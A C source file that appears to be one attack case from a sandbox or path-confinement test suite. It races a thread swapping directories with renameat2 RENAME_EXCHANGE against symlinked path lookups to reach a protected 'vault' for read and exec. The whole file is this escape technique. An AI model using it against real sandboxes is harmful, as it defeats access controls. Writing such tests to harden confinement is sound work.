/* SPDX-License-Identifier: Apache-2.0 */
#include "attack.h"

#include <pthread.h>
#include <time.h>

/* While one thread opens, another moves a free directory that holds a link to the vault: lookups and renames race. */
/* Each try that meets the target makes an alert; more of them would only test the ring buffer. */
#define TRIES 400

static volatile bool over;

static void *swap(void *unused)
{
	const char *one = strdup(open_path("one")), *two = strdup(open_path("two"));

	(void)unused;
	while (!over)
		syscall(SYS_renameat2, AT_FDCWD, one, AT_FDCWD, two, 2 /* RENAME_EXCHANGE */);
	return NULL;
}

static void run(void)
{
	struct timespec start, now;
	int tries = 0;
	const char *name = strdup(open_path("one/entry/target"));
	pthread_t thread;

	if (mkdir(open_path("one"), 0755) < 0 || mkdir(open_path("two"), 0755) < 0 ||
	    mkdir(open_path("one/entry"), 0755) < 0 || symlink(vault, open_path("two/entry")) < 0 ||
	    symlink(decoy_path(), open_path("one/entry/target")) < 0)
		step_failed("lay out the directories");
	if (pthread_create(&thread, NULL, swap, NULL) != 0)
		return;
	clock_gettime(CLOCK_MONOTONIC, &start);
	do {
		reach_path(name);
		clock_gettime(CLOCK_MONOTONIC, &now);
	} while (!has_escaped() && ++tries < TRIES && now.tv_sec - start.tv_sec < 3);
	over = true;
	pthread_join(thread, NULL);
	reach_path(target);
}

ATTACK(.name = "swap-directory-race", .goals = READ | EXEC)
